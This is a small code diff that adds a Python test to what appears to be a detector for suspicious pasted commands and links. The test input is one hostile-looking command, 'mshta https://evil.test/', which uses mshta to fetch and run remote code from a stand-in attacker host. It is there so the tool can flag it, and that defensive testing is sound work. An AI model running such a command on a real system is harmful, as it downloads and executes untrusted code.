@@ -195,3 +195,9 @@ def test_last_link_is_derived_even_after_an_encoded_one(edition: str) -> None:
 )  # fmt: skip
 def test_link_in_a_parameter_is_not_derived(text: str) -> None:
     assert inspect(text).derived is None
+
+
+def test_finding_about_the_text_around_a_link_is_shown_with_the_link() -> None:
+    shown = inspect("mshta https://evil.test/").meant
+    assert shown.text == "https://evil.test/"
+    assert next(each.code for each in shown.findings) == "pasted-command"
